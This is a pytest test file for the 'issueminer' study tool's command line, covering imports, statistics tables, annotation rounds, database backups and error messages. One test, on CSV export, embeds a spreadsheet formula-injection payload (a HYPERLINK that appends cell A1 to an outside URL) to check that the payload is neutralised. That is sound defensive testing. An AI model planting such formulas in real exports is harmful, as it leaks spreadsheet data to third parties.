"""The command line, driven through Typer's runner with exact outputs asserted."""

from __future__ import annotations

import csv
import io
import json

import pytest
import typer

from issueminer.cli.main import app
from issueminer.store import Store
from issueminer.store.db import head_revision
from tests.conftest import REPO
from tests.helpers import dump


def _commands(group, prefix=()):
    for name, command in group.commands.items():
        if hasattr(command, "commands"):
            yield from _commands(command, (*prefix, name))
        else:
            yield (*prefix, name), command


def test_every_command_has_help_with_an_example(runner) -> None:
    root = typer.main.get_command(app)
    commands = list(_commands(root))
    assert len(commands) >= 10
    for path, _ in commands:
        result = runner.invoke(app, [*path, "--help"])
        assert result.exit_code == 0, path
        assert "Example:" in result.output, f"{' '.join(path)} has no example in its help"


@pytest.fixture(scope="module")
def study_db(tosem_dir, tmp_path_factory) -> str:
    from typer.testing import CliRunner

    db = str(tmp_path_factory.mktemp("cli") / "study.db")
    result = CliRunner().invoke(
        app, ["import", "replication", str(tosem_dir), "--db", db, "--format", "json"]
    )
    assert result.exit_code == 0, result.output
    return db


def test_import_prints_json_summary_and_writes_report(tosem_dir, tmp_path, runner) -> None:
    db, report = str(tmp_path / "s.db"), tmp_path / "report.csv"
    result = runner.invoke(
        app,
        [
            "import",
            "replication",
            str(tosem_dir),
            "--db",
            db,
            "--report",
            str(report),
            "--format",
            "json",
        ],
    )
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert summary["loaded"]["final labels added"] == 1131
    cases = list(csv.DictReader(report.open()))
    assert len(cases) == sum(summary["findings"].values())
    assert {c["kind"] for c in cases} == set(summary["findings"])
    assert all(c["file"] for c in cases)
    again = runner.invoke(app, ["import", "replication", str(tosem_dir), "--db", db])
    assert "final labels unchanged: 1131" in " ".join(again.output.split())


def test_stats_json_has_the_documented_keys(study_db, runner) -> None:
    result = runner.invoke(app, ["stats", "--db", study_db, "--format", "json"])
    assert result.exit_code == 0
    data = json.loads(result.stdout)
    assert data["totals"]["issues"] == 1131
    assert data["totals"]["faults"] + data["totals"]["howto"] == 1131
    for key in ("specific", "stages", "leaf_symptoms", "fix_patterns", "howto_topics"):
        assert data[key]
    assert sum(data["stages"].values()) == data["totals"]["faults"]
    assert sum(data["howto_topics"].values()) == data["totals"]["howto"]


def test_stats_in_every_format_and_to_files(study_db, tmp_path, runner) -> None:
    md = runner.invoke(app, ["stats", "--db", study_db])
    assert "637 labelled faults and 494 how-to questions from 1070 distinct issues" in md.output
    assert "| stage | package build & import |" in md.output
    latex = runner.invoke(
        app, ["stats", "--db", study_db, "--format", "latex", "--table", "fix_patterns"]
    )
    assert r"\toprule" in latex.output and r"\bottomrule" in latex.output
    assert r"fix batch size/data partition" in latex.output
    csv_out = runner.invoke(
        app, ["stats", "--db", study_db, "--format", "csv", "--table", "overview"]
    )
    rows = list(csv.DictReader(io.StringIO(csv_out.output)))
    assert rows[-1]["source"] == "total" and rows[-1]["total"] == "1131"
    written = runner.invoke(
        app, ["stats", "--db", study_db, "--format", "latex", "--out", str(tmp_path / "tables")]
    )
    assert written.exit_code == 0
    names = sorted(p.name for p in (tmp_path / "tables").iterdir())
    assert names == sorted(
        f"{n}.tex"
        for n in (
            "overview",
            "fault_taxonomy",
            "specific",
            "fix_patterns",
            "symptom_fix",
            "howto_topics",
        )
    )
    bad = runner.invoke(app, ["stats", "--db", study_db, "--table", "nope"])
    assert bad.exit_code == 1 and "no table 'nope'" in bad.output


def test_stats_to_files_in_json_lists_them_as_json(study_db, tmp_path, runner) -> None:
    folder = tmp_path / "tables"
    result = runner.invoke(
        app, ["stats", "--db", study_db, "--format", "json", "--out", str(folder)]
    )
    assert result.exit_code == 0, result.output
    wrote = json.loads(result.stdout)["wrote"]
    assert sorted(wrote) == sorted(str(p) for p in folder.iterdir()) and len(wrote) == 7


def test_outputs_that_cannot_be_written_fail_cleanly_and_first(study_db, tmp_path, runner) -> None:
    """A --report path is checked before the import (which would otherwise be stored and
    then end in a traceback); an output folder that cannot be made is one line, exit 1."""
    db = str(tmp_path / "sample.db")
    sample = REPO / "data" / "sample"
    assert runner.invoke(app, ["import", "issues", str(sample / "issues.jsonl"), "--db", db])
    before = dump(Store(db))
    missing = tmp_path / "no-such-folder" / "report.csv"
    labels = ["import", "labels", str(sample / "labels.csv"), "--db", db]
    refused = runner.invoke(app, [*labels, "--report", str(missing)])
    assert refused.exit_code == 2 and "no folder" in refused.output
    assert dump(Store(db)) == before
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    for command in (["stats", "--db", study_db], ["report", "--db", study_db]):
        result = runner.invoke(app, [*command, "--out", str(blocker / "tables")])
        assert result.exit_code == 1, result.output
        assert "Not a directory" in result.output and not isinstance(result.exception, OSError)


def test_reading_a_database_that_is_not_there_fails_and_makes_none(tmp_path, runner) -> None:
    """A mistyped path on a reporting command; and a database without its driver."""
    typo = tmp_path / "stdy.db"
    for command in (
        ["stats"],
        ["agree"],
        ["issues", "list"],
        ["crawl", "status"],
        ["db", "status"],
    ):
        result = runner.invoke(app, [*command, "--db", str(typo)])
        assert result.exit_code == 1 and f"no database at {typo}" in result.output
    dump_missing = tmp_path / "no-such-Posts.xml"
    result = runner.invoke(app, ["crawl", "so-dump", str(dump_missing), "--db", str(typo)])
    assert result.exit_code == 1 and str(dump_missing) in result.output
    assert not typo.exists()
    other = runner.invoke(app, ["stats", "--db", "mysql://someone@127.0.0.1/study"])
    assert other.exit_code == 1 and "no driver for mysql databases" in other.output


def test_errors_name_the_database_and_the_folder(study_db, tmp_path, runner) -> None:
    not_a_db = tmp_path / "notes.db"
    not_a_db.write_text("not a database")
    diff = runner.invoke(app, ["diff-study", study_db, str(not_a_db)])
    assert diff.exit_code == 1
    assert f"database sqlite:///{not_a_db}: DatabaseError" in diff.output
    blocker = tmp_path / "a-file"
    blocker.write_text("x")
    made = runner.invoke(app, ["study", "new", "notes", "--dir", str(blocker / "studies")])
    assert made.exit_code == 1 and "Not a directory" in made.output
    assert not isinstance(made.exception, OSError)


def test_export_summary_as_json(study_db, tmp_path, runner) -> None:
    package = tmp_path / "package"
    result = runner.invoke(
        app, ["export", "--db", study_db, "--out", str(package), "--sheets", "csv", "-f", "json"]
    )
    assert result.exit_code == 0, result.output
    summary = json.loads(result.stdout)
    assert sorted(summary["files"]) == sorted(str(p) for p in package.rglob("*") if p.is_file())
    assert summary["counts"]["final labels (faults)"] == 637


def test_agree_json_rows(study_db, runner) -> None:
    result = runner.invoke(app, ["agree", "--db", study_db, "--format", "json"])
    rows = json.loads(result.stdout)
    assert len(rows) == 25
    assert set(rows[0]) >= {"round", "dimension", "n", "agreement", "kappa", "alpha"}
    one = runner.invoke(app, ["agree", "--db", study_db, "--round", "round2", "--format", "json"])
    assert {r["round"] for r in json.loads(one.stdout)} == {"round2"}
    md = runner.invoke(app, ["agree", "--db", study_db])
    assert "| round1 | issue_type |" in md.output
    missing = runner.invoke(app, ["agree", "--db", study_db, "--round", "round9"])
    assert missing.exit_code == 1


def test_round_status_of_rounds_labelled_before_import(tmp_path, runner) -> None:
    """Imported rounds drew no issues here: their issues are the ones labelled in them."""
    db, sample = str(tmp_path / "sample.db"), REPO / "data" / "sample"
    for kind in ("issues", "labels"):
        name = "issues.jsonl" if kind == "issues" else "labels.csv"
        done = runner.invoke(app, ["import", kind, str(sample / name), "--db", db])
        assert done.exit_code == 0, done.output
    with open(sample / "labels.csv", newline="") as handle:
        every_row = list(csv.DictReader(handle))
    rows = [r for r in every_row if r["kind"] == "annotation"]
    status = runner.invoke(app, ["round", "status", "--db", db, "--format", "json"])
    got = {(r["round"], r["annotator"]): r for r in json.loads(status.stdout)}
    assert set(got) == {(r["round"], r["annotator"]) for r in rows}
    for (round_name, annotator), row in got.items():
        labelled = {r["url"] for r in rows if r["round"] == round_name}
        done = [r for r in rows if (r["round"], r["annotator"]) == (round_name, annotator)]
        assert (row["size"], row["done"], row["left"]) == (len(labelled), len(done), 0)
    # finalizing such a round counts its issues too: the sample's finals cover them all
    final = {r["url"] for r in every_row if r["kind"] == "final"}
    result = runner.invoke(app, ["round", "finalize", "--round", "r1", "--db", db, "-f", "json"])
    counts = json.loads(result.stdout)
    r1 = {r["url"] for r in rows if r["round"] == "r1"}
    assert counts.get("already final", 0) == len(r1 & final) > 0


def test_issues_list_and_show(study_db, runner) -> None:
    result = runner.invoke(
        app,
        [
            "issues",
            "list",
            "--db",
            study_db,
            "--type",
            "fault",
            "--symptom",
            "out of memory",
            "--format",
            "json",
        ],
    )
    rows = json.loads(result.stdout)
    assert rows and all(
        any(label["leaf_symptom"] == "out of memory" for label in r["final_labels"]) for r in rows
    )
    limited = runner.invoke(
        app, ["issues", "list", "--db", study_db, "--limit", "3", "--format", "json"]
    )
    everything = runner.invoke(app, ["issues", "list", "--db", study_db, "--format", "json"])
    assert json.loads(limited.stdout) == json.loads(everything.stdout)[:3]
    url = next(r["url"] for r in rows if r["url"])
    shown = runner.invoke(app, ["issues", "show", url + "/", "--db", study_db, "--format", "json"])
    data = json.loads(shown.stdout)
    assert data["url"] == url
    assert data["final_labels"][0]["leaf_symptom"] == "out of memory"
    missing = runner.invoke(
        app, ["issues", "show", "https://github.com/a/b/issues/1", "--db", study_db]
    )
    assert missing.exit_code == 1 and "no stored issue" in missing.output


def test_issues_list_filters_by_the_studys_names(study_db, runner) -> None:
    """Sources, aliases and case as the study file allows; an unknown category is an error
    that lists the known ones, not an empty list."""

    def listed(*options: str) -> list[dict]:
        result = runner.invoke(app, ["issues", "list", "--db", study_db, *options, "-f", "json"])
        assert result.exit_code == 0, result.output
        return json.loads(result.stdout)

    github = listed("--source", "github")
    assert github and {r["source"] for r in github} == {"github"}
    totals = json.loads(runner.invoke(app, ["stats", "--db", study_db, "-f", "json"]).stdout)
    totals = totals["totals"]
    assert len(listed("--labelled")) == totals["distinct_issues"] < len(listed())
    how_to = listed("--type", "How-To")
    # one row per issue: an issue with several how-to questions is listed once
    assert how_to == listed("--type", "how-to question") and len(how_to) == totals["howto_issues"]
    assert listed("--symptom", "Out Of Memory") == listed("--symptom", "out of memory")
    nowhere = runner.invoke(app, ["issues", "list", "--db", study_db, "--source", "bitbucket"])
    assert "--source 'bitbucket': the stored issues come from github, stackoverflow" in (
        nowhere.output
    )
    unknown = runner.invoke(app, ["issues", "list", "--db", study_db, "--type", "bug"])
    assert unknown.exit_code == 1
    assert "--type 'bug': the study's issue types are fault, how-to question" in unknown.output


def test_taxonomy_show_and_validate(runner, tmp_path) -> None:
    shown = runner.invoke(app, ["taxonomy", "show", "--format", "json"])
    tree = json.loads(shown.stdout)
    assert [s["name"] for s in tree["stages"]] == [
        "package build & import",
        "communication setup",
        "data and model preparation",
        "training & evaluation",
    ]
    good = runner.invoke(app, ["taxonomy", "validate", "taxonomy/distributed-training.yaml"])
    assert good.exit_code == 0
    broken = tmp_path / "broken.yaml"
    broken.write_text("study: x\nissue_types:\n  - name: fault\nstages: []\n")
    bad = runner.invoke(app, ["taxonomy", "validate", str(broken)])
    assert bad.exit_code == 1
    assert f"{broken}:3: issue_types[0] 'fault': missing 'definition'" in bad.output
    as_json = runner.invoke(app, ["taxonomy", "validate", str(broken), "--format", "json"])
    assert as_json.exit_code == 1
    report = json.loads(as_json.stdout)
    assert report["valid"] is False and report["file"] == str(broken)
    assert f"{broken}:3: issue_types[0] 'fault': missing 'definition'" in report["problems"]


def test_import_errors_exit_non_zero_with_place(runner, tmp_path) -> None:
    db = str(tmp_path / "e.db")
    result = runner.invoke(app, ["import", "replication", str(tmp_path / "nope"), "--db", db])
    assert result.exit_code == 1
    assert "nothing was written" in result.output and "nope" in result.output


def test_db_upgrade_and_status(runner, tmp_path) -> None:
    db = str(tmp_path / "u.db")
    head = head_revision()  # the newest migration shipped
    first = runner.invoke(app, ["db", "upgrade", "--db", db])
    assert first.exit_code == 0 and f"empty -> {head}" in first.output
    status = runner.invoke(app, ["db", "status", "--db", db])
    assert f"current: {head}  newest: {head}" in status.output
    fresh = str(tmp_path / "fresh.db")
    (tmp_path / "fresh.db").touch()  # an empty file is an empty SQLite database
    before = json.loads(runner.invoke(app, ["db", "status", "--db", fresh, "-f", "json"]).stdout)
    assert before == {"current": None, "newest": head, "up_to_date": False}
    upgraded = runner.invoke(app, ["db", "upgrade", "--db", fresh, "--format", "json"])
    expected = {"database": f"sqlite:///{fresh}", "before": None, "after": head}
    assert json.loads(upgraded.stdout) == expected


def _accepts(option, context, value: str) -> bool:
    try:
        option.process_value(context, value)
    except Exception:  # noqa: BLE001 - whatever the parser raises for a refused value
        return False
    return True


def test_every_command_that_reports_has_format_json() -> None:
    """Each command that prints a result can print it as JSON (--format json); the rest
    start a server or write files in a format of their own choosing."""
    import typer.main

    no_report = {"label": "serves the annotation app"}
    root = typer.main.get_command(app)
    missing = []

    def walk(command, path: list[str], context) -> None:
        if hasattr(command, "list_commands"):  # a group (typer may bring its own click)
            for name in command.list_commands(context):
                sub = command.get_command(context, name)
                walk(sub, [*path, name], type(context)(sub, parent=context))
            return
        option = next((p for p in command.params if "--format" in getattr(p, "opts", [])), None)
        if " ".join(path) in no_report:
            return
        if option is None or not _accepts(option, context, "json"):
            missing.append(" ".join(path))

    walk(root, [], root.context_class(root))
    assert missing == []


def test_round_create_says_what_it_left_out_and_why(runner, tmp_path) -> None:
    from issueminer.collect.ingest import upsert_issues
    from issueminer.ids import parse_issue_url
    from tests.labeling_fixtures import add_issues

    db = str(tmp_path / "r.db")
    store = Store(f"sqlite:///{db}")
    with_text = add_issues(store, 4)
    links = [
        parse_issue_url(f"https://github.com/horovod/horovod/issues/{60_000 + i}").identity()
        for i in range(1_200)
    ]
    with store.session() as session:
        upsert_issues(session, [{**link, "source": "github"} for link in links])
    made = runner.invoke(app, ["round", "create", "--size", "2", "--annotators", "a,b", "--db", db])
    assert made.exit_code == 0, made.output
    assert made.stdout.splitlines() == [
        "round round1: 2 issues for a, b",
        "left out 1,200 of 1,204 candidates that have no text yet: fill them with "
        "`issueminer crawl hydrate` (or draw them as they are with --allow-empty)",
    ]
    as_json = runner.invoke(
        app, ["round", "create", "--size", "2", "--annotators", "a", "--db", db, "-f", "json"]
    )
    drawn = json.loads(as_json.stdout)
    assert drawn["candidates"] == 1_202 and set(drawn["issues"]) <= set(with_text)
    assert drawn["left_out"] == {
        "count": 1_200,
        "why": "no text yet: fill them with `issueminer crawl hydrate`",
    }
    too_many = runner.invoke(
        app, ["round", "create", "--size", "3", "--annotators", "a", "--db", db]
    )
    assert too_many.exit_code == 1
    refusal = "only 0 unlabelled issues with text are not in a round yet (3 asked for); 1,200 more"
    assert refusal in too_many.output
    allowed = runner.invoke(
        app,
        ["round", "create", "--size", "3", "--annotators", "a", "--allow-empty", "--db", db],
    )
    assert allowed.exit_code == 0 and allowed.stdout == "round round3: 3 issues for a\n"


def test_db_backup_writes_a_checked_copy_and_never_overwrites(runner, tmp_path) -> None:
    from tests.labeling_fixtures import add_issues

    db = tmp_path / "live.db"
    add_issues(Store(f"sqlite:///{db}"), 5)
    copy = tmp_path / "copy.db"
    made = runner.invoke(app, ["db", "backup", str(copy), "--db", str(db), "-f", "json"])
    assert made.exit_code == 0, made.output
    report = json.loads(made.stdout)
    assert report["path"] == str(copy) and report["size"] == copy.stat().st_size
    assert report["tables"]["issue"] == 5 and report["tables"]["reply"] == 5
    assert report["rows"] == sum(report["tables"].values())
    assert dump(Store(f"sqlite:///{copy}")) == dump(Store(f"sqlite:///{db}"))
    again = runner.invoke(app, ["db", "backup", str(copy), "--db", str(db)])
    assert again.exit_code == 1 and f"{copy} already exists; pass --force" in again.output
    forced = runner.invoke(app, ["db", "backup", str(copy), "--db", str(db), "--force"])
    assert forced.exit_code == 0
    assert forced.stdout.startswith(f"backed up to {copy}: ") and "integrity check" in forced.stdout
    missing = runner.invoke(app, ["db", "backup", str(copy), "--db", str(tmp_path / "no.db")])
    assert missing.exit_code == 1 and not (tmp_path / "no.db").exists()


@pytest.mark.parametrize("db_url", ["postgresql"], indirect=True)
def test_db_backup_of_postgresql_prints_the_pg_dump_command(runner, db_url, tmp_path) -> None:
    from sqlalchemy import make_url

    target = tmp_path / "study.dump"
    result = runner.invoke(app, ["db", "backup", str(target), "--db", db_url])
    url = make_url(db_url)
    assert result.exit_code == 1 and not target.exists()  # no copy was made
    assert "back up PostgreSQL with pg_dump" in result.output
    assert f"pg_dump --format=custom --file={target}" in result.output
    assert result.output.rstrip().endswith(f" {url.database}")
    if url.password:
        assert url.password not in result.output


def test_issues_csv_does_not_hand_a_spreadsheet_a_formula(runner, tmp_path) -> None:
    """An issue's title comes from the internet; `=HYPERLINK(...)` must stay text."""
    from issueminer.collect.sources.files import csv_text

    hostile = '=HYPERLINK("https://example.org/?"&A1,"click")'
    issues = tmp_path / "issues.jsonl"
    issues.write_text(
        json.dumps({"url": "https://github.com/horovod/horovod/issues/97002", "title": hostile})
        + "\n"
        + json.dumps({"url": "https://github.com/horovod/horovod/issues/97003", "title": "Hang"})
        + "\n"
    )
    db = str(tmp_path / "hostile.db")
    assert runner.invoke(app, ["import", "issues", str(issues), "--db", db]).exit_code == 0
    result = runner.invoke(app, ["issues", "list", "--db", db, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    titles = sorted(row["title"] for row in rows)
    assert titles == sorted(["Hang", "'" + hostile])  # a quote in front; plain titles as they are
    assert sorted(csv_text(t) for t in titles) == sorted(["Hang", hostile])
